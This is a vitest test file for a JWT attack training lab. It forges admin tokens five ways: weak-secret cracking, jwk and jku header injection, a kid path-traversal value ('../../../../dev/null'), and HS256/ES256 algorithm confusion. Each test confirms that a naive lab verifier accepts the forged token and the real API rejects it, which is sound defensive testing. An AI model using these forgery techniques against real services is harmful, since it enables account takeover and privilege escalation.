import { generateKeyPairSync, verify } from 'node:crypto';
import { exportJWK, SignJWT } from 'jose';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { jwtTargetResponseSchema } from '../../../shared/api/lab-jwt-attacks.ts';
import { recoverEs256Key } from '../../support/ecdsa-recover.ts';
import { useLabServer } from '../../support/lab-server.ts';
import { adminClaims, crack, JwtLabWindow, realApiRefuses } from './jwt-attack-helpers.ts';

// The five attacks of PortSwigger's JWT labs, each built here as an attacker builds it: the lab target's naive verifier
// accepts it (and says how) while its switch is on; the real API refuses it meanwhile; with the switch off the target
// refuses it as the real API does.
describe('the JWT attack labs: the target, attack by attack', () => {
  const lab = useLabServer();
  let window: JwtLabWindow;
  let sub: string;
  beforeAll(() => {
    window = new JwtLabWindow(lab.served.url);
    sub = String(lab.t.accounts.findByUsername('alice')!.id);
  });
  afterEach(async () => {
    expect((await window.send('delete', '/api/v1/lab/switches')).status).toBe(200);
  });

  /** The naive target takes `token` as an admin's and says `how`; the real API and the switched-off target refuse it. */
  async function proveAttack(token: string, how: RegExp, realCode: string) {
    await window.switches({ naiveVerifier: true });
    const accepted = await window.target(token);
    expect(accepted.status, JSON.stringify(accepted.body)).toBe(200);
    const answer = jwtTargetResponseSchema.parse(accepted.body);
    expect(answer).toMatchObject({ verifier: 'naive', admin: true, claims: { role: 'admin', sub } });
    expect(answer.how).toMatch(how);
    const code = await realApiRefuses(lab.served.url, token);
    expect(code).toBe(realCode);
    await window.switches({ naiveVerifier: false });
    const refused = await window.target(token);
    expect(refused.status).toBe(401);
    expect(refused.body.error.code).toBe(code);
  }

  it('issues ES256 tokens for alice that differ, with raw r||s signatures, whose key two of them recover', async () => {
    const [first, second] = [await window.targetToken(), await window.targetToken()];
    expect(first).not.toBe(second);
    const header = JSON.parse(Buffer.from(first.split('.')[0]!, 'base64url').toString());
    expect(header).toEqual({ alg: 'ES256', typ: 'JWT' });
    const claims = JSON.parse(Buffer.from(first.split('.')[1]!, 'base64url').toString());
    expect(claims).toMatchObject({ sub, role: 'user', iss: 'session-lab-jwt-target' });
    expect(typeof claims.jti).toBe('string');
    expect(claims.exp - claims.iat).toBeGreaterThan(60);
    const key = recoverEs256Key(first, second);
    for (const token of [first, second]) {
      const [h, p, s] = token.split('.') as [string, string, string];
      expect(Buffer.from(s, 'base64url')).toHaveLength(64);
      const ok = verify(
        'sha256',
        Buffer.from(`${h}.${p}`),
        { key, dsaEncoding: 'ieee-p1363' },
        Buffer.from(s, 'base64url'),
      );
      expect(ok).toBe(true);
    }
    // Its own tokens pass the naive target as a user's, and the real API refuses them (not its key).
    await window.switches({ naiveVerifier: true });
    const own = jwtTargetResponseSchema.parse((await window.target(first)).body);
    expect(own).toMatchObject({ verifier: 'naive', admin: false });
    expect(await realApiRefuses(lab.served.url, first)).toBe('TOKEN_KID_UNKNOWN');
  });

  it('weak secret: cracked with the wordlist, re-signed HS256 with role admin', async () => {
    await window.switches({ weakSecret: true });
    const issued = await window.targetToken();
    expect(JSON.parse(Buffer.from(issued.split('.')[0]!, 'base64url').toString()).alg).toBe('HS256');
    const words = (await window.send('get', '/api/v1/lab/jwt-attacks/wordlist')).text.split('\n');
    const secret = crack(issued, words);
    expect(secret).toBeDefined();
    const forged = await new SignJWT(adminClaims(sub))
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .sign(new TextEncoder().encode(secret));
    await proveAttack(forged, /configured secret, a weak one/, 'TOKEN_KID_UNKNOWN');
  });

  it("jwk header injection: the attacker's own public key, embedded in the header", async () => {
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const jwk = await exportJWK(publicKey);
    const forged = await new SignJWT(adminClaims(sub)).setProtectedHeader({ alg: 'ES256', jwk }).sign(privateKey);
    await proveAttack(forged, /from the token's own jwk header/, 'TOKEN_HEADER_FORBIDDEN');
  });

  it('jku header injection: a key set the attacker serves on the evil origin', async () => {
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const jwk = { ...(await exportJWK(publicKey)), kid: 'evil-1', use: 'sig' };
    const put = await window.send('put', '/api/v1/lab/evil-origin/jwks').send({ keys: [jwk] });
    expect(put.status, JSON.stringify(put.body)).toBe(200);
    const url = put.body.url as string;
    expect(url).toBe(`${lab.t.evilOrigin.urls!.url}/jwks.json`);
    const forged = await new SignJWT(adminClaims(sub))
      .setProtectedHeader({ alg: 'RS256', kid: 'evil-1', jku: url })
      .sign(privateKey);
    await proveAttack(
      forged,
      new RegExp(`fetched the key set from the jku URL ${url.replace(/[.]/g, '\\.')}`),
      'TOKEN_ALG_NOT_ALLOWED',
    );
  });

  it('kid path traversal: ../../../../dev/null, an empty file, so the key is one zero byte (AA==)', async () => {
    const forged = await new SignJWT(adminClaims(sub))
      .setProtectedHeader({ alg: 'HS256', kid: '../../../../dev/null' })
      .sign(Buffer.from('AA==', 'base64'));
    await proveAttack(
      forged,
      /file \/dev\/null named by kid "..\/..\/..\/..\/dev\/null" — an empty file/,
      'TOKEN_KID_UNKNOWN',
    );
  });

  it('algorithm confusion: HS256 signed with the ES256 public key recovered from two of its tokens', async () => {
    const key = recoverEs256Key(await window.targetToken(), await window.targetToken());
    const pem = key.export({ type: 'spki', format: 'pem' }).toString();
    const forged = await new SignJWT(adminClaims(sub))
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .sign(new TextEncoder().encode(pem));
    await proveAttack(
      forged,
      /used its ES256 public key as an HS256 secret because the header said HS256/,
      'TOKEN_KID_UNKNOWN',
    );
  });
});
